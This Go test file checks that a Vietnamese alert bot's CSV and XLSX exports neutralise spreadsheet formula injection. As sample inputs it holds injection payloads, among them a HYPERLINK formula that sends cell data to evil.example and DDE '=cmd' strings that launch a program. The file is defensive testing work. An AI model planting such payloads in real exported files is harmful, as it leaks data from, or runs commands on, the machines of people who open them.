package bot

import (
	"bytes"
	"encoding/csv"
	"io"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/canhbao/canhbao/store"
)

func TestCellDefusesFormulas(t *testing.T) {
	tests := map[string]string{
		`=HYPERLINK("http://x/?"&A2,"chi tiết")`: `'=HYPERLINK("http://x/?"&A2,"chi tiết")`,
		"+84 912":                      "'+84 912",
		"-1+2":                         "'-1+2",
		"@SUM(A1)":                     "'@SUM(A1)",
		"  =1+1":                       "  '=1+1",
		"＝1+1":                         "'＝1+1",
		"\n=cmd|' /C calc'!A0":         "\n'=cmd|' /C calc'!A0",
		"\r=1":                         "\r'=1",
		"Cập nhật; =cmd|' /C calc'!A0": "Cập nhật; '=cmd|' /C calc'!A0",
		"a,@SUM(1)":                    "a,'@SUM(1)",
		`x;"=1+1"`:                     `x;"'=1+1"`,
		"\tx":                          " x",
		"a\tb":                         "a b",
		"40-42, 5 máy":                 "40-42, 5 máy",
		"đã vá 40/42 máy":              "đã vá 40/42 máy",
		"":                             "",
		"Nguyễn Văn An":                "Nguyễn Văn An",
	}
	for in, want := range tests {
		if got := cell(in); got != want {
			t.Errorf("cell(%q) = %q, want %q", in, got, want)
		}
	}
}

// hostile is text a feed, an agency or a person may send, written to be
// read as a formula by a spreadsheet, whichever list separator it uses.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A2,"Bấm vào đây")`,
	`Cập nhật; =cmd|' /C calc'!A0`,
	`Ghi chú, @SUM(1+1)*cmd|' /C calc'!A0`,
	"Đã vá\t=1+1\t+2",
	"-2+3;+4,=5",
	"Dòng 1\n=1+1",
	"Sở \"Y tế\"; -1",
}

// hostileStore writes an alert whose title, agency names, acknowledger
// names and notes are the hostile texts, plus an audit entry.
func hostileStore(t *testing.T) *store.Store {
	t.Helper()
	st, err := store.Open(filepath.Join(t.TempDir(), "x.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	at := time.Date(2026, 11, 26, 2, 15, 0, 0, time.UTC)
	err = st.Update(func(tx *store.Tx) error {
		if err := tx.PutAlert(store.Alert{ID: 1, Source: "cisa", Key: "k", Title: hostile[0], Severity: store.SeverityCritical, FirstSeen: at, Pushed: true}); err != nil {
			return err
		}
		for i, h := range hostile {
			chat := int64(-1001234567890 - int64(i))
			if err := tx.PutChat(store.Chat{ID: chat, Agency: h, Status: store.ChatApproved, Filter: store.Filter{Keywords: []string{h}}}); err != nil {
				return err
			}
			state := store.DeliverySent
			if i == 1 {
				state = store.DeliveryFailed
			}
			if err := tx.PutDelivery(store.Delivery{AlertID: 1, ChatID: chat, State: state, QueuedAt: at, SentAt: at}); err != nil {
				return err
			}
			if i%2 == 0 {
				if _, err := tx.AddAck(store.Ack{AlertID: 1, ChatID: chat, UserID: int64(100 + i), Name: h, At: at.Add(90 * time.Minute), Note: h}); err != nil {
					return err
				}
			}
		}
		return tx.Audit(store.AuditEntry{At: at.Add(time.Hour), UserID: 7, UserName: hostile[2], Action: "filter", Detail: hostile[1]})
	})
	if err != nil {
		t.Fatal(err)
	}
	return st
}

// formulaStart reports whether a spreadsheet would read the cell as a
// formula: its first visible character is = + - @ and it is not a number.
func formulaStart(c string) bool {
	s := strings.TrimLeft(c, " \r\n")
	if s == "" {
		return false
	}
	r, _ := utf8.DecodeRuneInString(s)
	if !strings.ContainsRune("=+-@＝＋－＠", r) {
		return false
	}
	return strings.Trim(s, "-0123456789") != "" // a negative chat id is a number
}

// TestCSVIsDefusedForBothSeparators reads the export the way Excel does
// with a comma (English settings) and with a semicolon (Vietnamese
// settings) as list separator: no cell may start a formula and no tab may
// split a cell.
func TestCSVIsDefusedForBothSeparators(t *testing.T) {
	st := hostileStore(t)
	for _, lang := range []Lang{Vietnamese, English} {
		var buf bytes.Buffer
		if err := WriteCSV(&buf, st, NewRenderer(lang), store.ExportQuery{}); err != nil {
			t.Fatal(err)
		}
		for _, sep := range []rune{',', ';'} {
			t.Run(string(lang)+" "+string(sep), func(t *testing.T) {
				rd := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), utf8BOM)))
				rd.Comma, rd.FieldsPerRecord, rd.LazyQuotes = sep, -1, true
				rows, err := rd.ReadAll()
				if err != nil {
					t.Fatal(err)
				}
				if len(rows) < 1+len(hostile) { // a line break in a cell may split a row
					t.Fatalf("%d rows, want %d", len(rows), 1+len(hostile))
				}
				for i, row := range rows {
					for j, c := range row {
						if formulaStart(c) || strings.Contains(c, "\t") {
							t.Errorf("row %d cell %d reads as a formula or holds a tab: %q", i, j, c)
						}
					}
				}
			})
		}
		// Read with the separator it was written with, every row is whole.
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), utf8BOM))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if lang == Vietnamese && rows[1][6] != "gửi thất bại" && rows[1][6] != "đã gửi" {
			t.Errorf("delivery state %q is not Vietnamese", rows[1][6])
		}
	}
}

// TestXLSXExport opens the workbook with excelize: three sheets, the
// header, text kept exactly and never a formula, ids in full, dates as
// dates in Vietnam time, Vietnamese states and actions.
func TestXLSXExport(t *testing.T) {
	st := hostileStore(t)
	r := NewRenderer(Vietnamese)
	r.DeptName = "Sở Khoa học và Công nghệ"
	name, data, err := ExportFile(st, r, store.ExportQuery{Format: FormatXLSX})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasSuffix(name, ".xlsx") {
		t.Errorf("file name %q", name)
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheets := f.GetSheetList()
	if want := []string{"Cảnh báo × đơn vị", "Đơn vị", "Nhật ký quản trị", "Sự cố", "Lịch trực"}; strings.Join(sheets, "|") != strings.Join(want, "|") {
		t.Fatalf("sheets %q, want %q", sheets, want)
	}
	rows, err := f.GetRows(sheets[0])
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+len(hostile) || strings.Join(rows[0], "|") != strings.Join(csvHeader[Vietnamese], "|") {
		t.Fatalf("alerts sheet: %d rows, header %q", len(rows), rows[0])
	}
	agencies := map[string]bool{}
	for i, row := range rows[1:] {
		cellName, _ := excelize.CoordinatesToCellName(5, i+2)
		if fm, _ := f.GetCellFormula(sheets[0], cellName); fm != "" {
			t.Errorf("%s is a formula: %q", cellName, fm)
		}
		agencies[row[4]] = true
		if row[0] != "1" || row[1] != hostile[0] || row[2] != "Nghiêm trọng" {
			t.Errorf("row %d: %q", i+2, row)
		}
		if row[6] != "đã gửi" && row[6] != "gửi thất bại" {
			t.Errorf("row %d state %q", i+2, row[6])
		}
		if row[7] != "26/11/2026 09:15" {
			t.Errorf("row %d sent at %q, want Vietnam time", i+2, row[7])
		}
		if len(row) > 8 && row[8] != "" && (row[9] != "26/11/2026 10:45" || row[10] != "90") {
			t.Errorf("row %d acknowledgement %q", i+2, row[8:])
		}
	}
	for _, h := range hostile {
		if want := strings.ReplaceAll(h, "\t", " "); !agencies[want] {
			t.Errorf("agency %q not kept exactly; have %v", want, agencies)
		}
	}
	if v, _ := f.GetCellValue(sheets[0], "F2"); !strings.HasPrefix(v, "-100123456789") {
		t.Errorf("chat id shown as %q", v)
	}

	ag, err := f.GetRows(sheets[1])
	if err != nil {
		t.Fatal(err)
	}
	if len(ag) != 1+len(hostile) || ag[0][0] != "Đơn vị" {
		t.Fatalf("agencies sheet: %q", ag)
	}
	for _, row := range ag[1:] {
		if row[3] != "đã duyệt" || !strings.HasPrefix(row[7], "có một trong các từ khóa") || row[8] != "1" {
			t.Errorf("agency row %q", row)
		}
	}
	audit, err := f.GetRows(sheets[2])
	if err != nil {
		t.Fatal(err)
	}
	if len(audit) != 2 || audit[1][3] != "đặt bộ lọc" || audit[1][4] != hostile[1] || audit[1][0] != "26/11/2026 10:15" {
		t.Errorf("audit sheet: %q", audit)
	}
}

// TestExportOfOneAlert: the workbook of one alert has its rows and the
// admin actions since it arrived.
func TestExportOfOneAlert(t *testing.T) {
	st := hostileStore(t)
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, st, NewRenderer(English), store.ExportQuery{AlertID: 1}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); got[0] != "Alerts × agencies" {
		t.Errorf("sheets %q", got)
	}
	if err := WriteXLSX(io.Discard, st, NewRenderer(English), store.ExportQuery{AlertID: 2}); !store.IsNotFound(err) {
		t.Errorf("unknown alert: %v", err)
	}
}
